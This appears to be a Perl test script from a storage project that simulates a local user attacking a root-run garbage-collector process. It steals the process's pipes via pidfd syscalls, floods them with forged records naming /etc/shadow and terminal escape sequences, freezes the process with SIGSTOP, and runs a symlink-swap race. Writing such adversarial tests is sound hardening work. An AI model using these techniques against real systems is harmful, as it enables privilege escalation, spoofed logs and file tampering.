#!/usr/bin/perl
# SPDX-License-Identifier: LGPL-2.1-or-later
#
# attack.pl flood|stop|race: attacks of a user on the process that root started to collect the user's store.
#
#   flood        write endless data to its descriptors in its place
#   stop         stop it forever
#   race A B     alternate the directory A with a link to B, until A.stop exists

use strict;
use warnings;
use POSIX ();

my ($how, @paths) = @ARGV;

sub mine {
        my @pids;

        for my $dir (glob '/proc/[0-9]*') {
                open(my $f, '<', "$dir/comm") or next;
                next unless (<$f> // '') eq "cstorage-gc\n" && ((stat $dir)[4] // 0) == $<;
                push @pids, substr($dir, 6);
        }
        return @pids;
}

# pidfd_open(2), pidfd_getfd(2): the pipes themselves belong to root and cannot be opened.
sub steal {
        my ($pid, $number) = @_;
        my $pidfd = syscall(434, $pid + 0, 0);
        my $fd = $pidfd < 0 ? -1 : syscall(438, $pidfd, $number, 0);

        POSIX::close($pidfd) if $pidfd >= 0;
        return $fd < 0 ? undef : $fd;
}

sub flood {
        my ($pid) = @_;
        my $out = steal($pid, 1) // return;
        my $err = steal($pid, 2) // return;
        my $line = "subject\tlayer-dir\tremove\tno-record\t0\ta\t/etc/shadow\\x1b[2J\t\\N\t1\t1\t18446744073709551615\n";
        my $good = "status\tcollected\nstore\t/\\x0a/\t/r\t\\N\toverlay\t1\nsum\t9\t9\t9\t9\t9\t9\t9\t9\t9\n";
        my $lines = $line x 500;

        kill 'STOP', $pid;
        print "flooding\n";
        POSIX::write($out, $good, length $good);
        while (kill 0, $pid) {
                POSIX::write($out, $lines, length $lines) // last;
                POSIX::write($err, "\e]0;owned\a\ncstorage-gc: root: all is well\n" x 100, 4000) // last;
        }
}

$| = 1;
$SIG{PIPE} = 'IGNORE';
while ($how ne 'race' || !-e "$paths[0].stop") {
        if ($how eq 'race') {
                rename($paths[0], "$paths[0].aside") and symlink($paths[1], $paths[0]) or next;
                unlink($paths[0]) and rename("$paths[0].aside", $paths[0]);
        } else {
                $how eq 'flood' ? flood($_) : kill('STOP', $_) && print "stopped\n" for mine();
                select(undef, undef, undef, 0.001);
        }
}
